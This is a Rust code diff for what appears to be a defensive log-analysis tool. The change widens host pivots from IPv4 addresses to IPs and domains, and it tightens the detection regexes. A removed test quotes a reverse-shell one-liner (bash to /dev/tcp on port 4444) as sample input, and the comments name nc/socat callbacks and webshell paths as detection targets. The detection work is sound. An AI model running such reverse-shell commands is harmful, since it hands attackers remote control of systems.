@@ -8,6 +8,7 @@
 
 use std::collections::BTreeMap;
 
+use crate::logscan::ioc::{self, IocKind};
 use crate::logscan::LogSection;
 use crate::model::{Finding, Locator, Severity, Timestamp};
 use crate::report::BundleReport;
@@ -31,7 +32,7 @@ pub struct Pivot {
 /// What a pivot is.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum PivotKind {
-    /// An IPv4 address from a flagged process command line.
+    /// An IP address or domain from a flagged process command line.
     Host,
     /// A webshell's file name (looked for as a URL path segment).
     Webshell,
@@ -49,15 +50,17 @@ pub fn pivots(report: &BundleReport, findings: &[Finding]) -> Vec<Pivot> {
         .collect();
     let mut hosts: BTreeMap<String, (Vec<String>, Vec<Locator>)> = BTreeMap::new();
     for f in findings.iter().filter(|f| f.rule.starts_with("proc.")) {
-        for ip in ipv4s(&f.summary) {
-            if known.contains(&ip.as_str())
-                || own.contains(&ip)
-                || ip.starts_with("127.")
-                || ip.starts_with("0.")
-            {
+        // The log scanner's own indicator extraction: IPs and domains in URLs, /dev/tcp
+        // paths, nc/socat arguments (the summaries carry callbacks decoded from base64).
+        let hosts_here = ioc::extract(f.summary.as_bytes(), &f.summary, None, &[])
+            .into_iter()
+            .filter(|i| matches!(i.kind, IocKind::Ip | IocKind::Domain))
+            .map(|i| i.value);
+        for host in hosts_here {
+            if known.contains(&host.as_str()) || own.contains(&host) || is_local(&host) {
                 continue;
             }
-            let e = hosts.entry(ip).or_default();
+            let e = hosts.entry(host).or_default();
             e.0.push(f.rule.clone());
             e.1.extend(f.evidence.iter().cloned());
         }
@@ -100,7 +103,12 @@ pub fn rules_text(pivots: &[Pivot]) -> String {
     let mut s = String::new();
     for p in pivots {
         let (literal, confirm) = match p.kind {
-            PivotKind::Host => (p.term.clone(), format!("(^|[^0-9.]){}([^0-9]|$)", regex::escape(&p.term))),
+            // Whole host names only: `10.0.0.1` is not in `10.0.0.12`, `evil.example` not in
+            // `evil.example.com`; a full stop after the name is fine.
+            PivotKind::Host => (
+                p.term.clone(),
+                format!(r"(^|[^A-Za-z0-9.-]){}([^A-Za-z0-9.-]|\.([^A-Za-z0-9]|$)|$)", regex::escape(&p.term)),
+            ),
             PivotKind::Webshell => {
                 (format!("/{}", p.term), format!("/{}([^A-Za-z0-9_.]|$)", regex::escape(&p.term)))
             }
@@ -176,47 +184,13 @@ fn dedup(mut v: Vec<String>) -> Vec<String> {
     v
 }
 
-/// Dotted-quad IPv4 addresses in `s` (each octet 0-255), in order of appearance.
-fn ipv4s(s: &str) -> Vec<String> {
-    let b = s.as_bytes();
-    let mut out = vec![];
-    let mut i = 0;
-    while i < b.len() {
-        if b[i].is_ascii_digit() && (i == 0 || !(b[i - 1].is_ascii_digit() || b[i - 1] == b'.')) {
-            let start = i;
-            let mut end = i;
-            while end < b.len() && (b[end].is_ascii_digit() || b[end] == b'.') {
-                end += 1;
-            }
-            let cand = s[start..end].trim_end_matches('.');
-            let parts: Vec<&str> = cand.split('.').collect();
-            if parts.len() == 4
-                && parts
-                    .iter()
-                    .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u16>().is_ok_and(|v| v <= 255))
-            {
-                out.push(cand.to_string());
-            }
-            i = end;
-        } else {
-            i += 1;
-        }
-    }
-    out
+fn is_local(host: &str) -> bool {
+    host.starts_with("127.") || host.starts_with("0.") || host == "localhost" || host == "::1"
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn ipv4_extraction() {
-        assert_eq!(
-            ipv4s("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1; callback 203.0.113.66:4444."),
-            ["203.0.113.66", "203.0.113.66"]
-        );
-        assert!(ipv4s("version 1.2.3.4.5 and 999.1.1.1").is_empty());
-    }
 
     #[test]
     fn pivot_rules_parse_in_the_documented_format() {
@@ -240,5 +214,11 @@ mod tests {
         assert_eq!(rules.len(), 2);
         let engine = crate::logscan::Engine::new(rules).unwrap();
         assert_eq!(engine.rules().len(), 2);
+        let hits = |line: &str| engine.evaluate(line.as_bytes()).len();
+        assert_eq!(hits("GET / from 203.0.113.66 ok"), 1);
+        assert_eq!(hits("callback 203.0.113.66."), 1);
+        assert_eq!(hits("203.0.113.661 and 1203.0.113.66"), 0);
+        assert_eq!(hits("POST /up/sh\"ell.php HTTP/1.1"), 1);
+        assert_eq!(hits("POST /up/sh\"ell.php.bak"), 0);
     }
 }
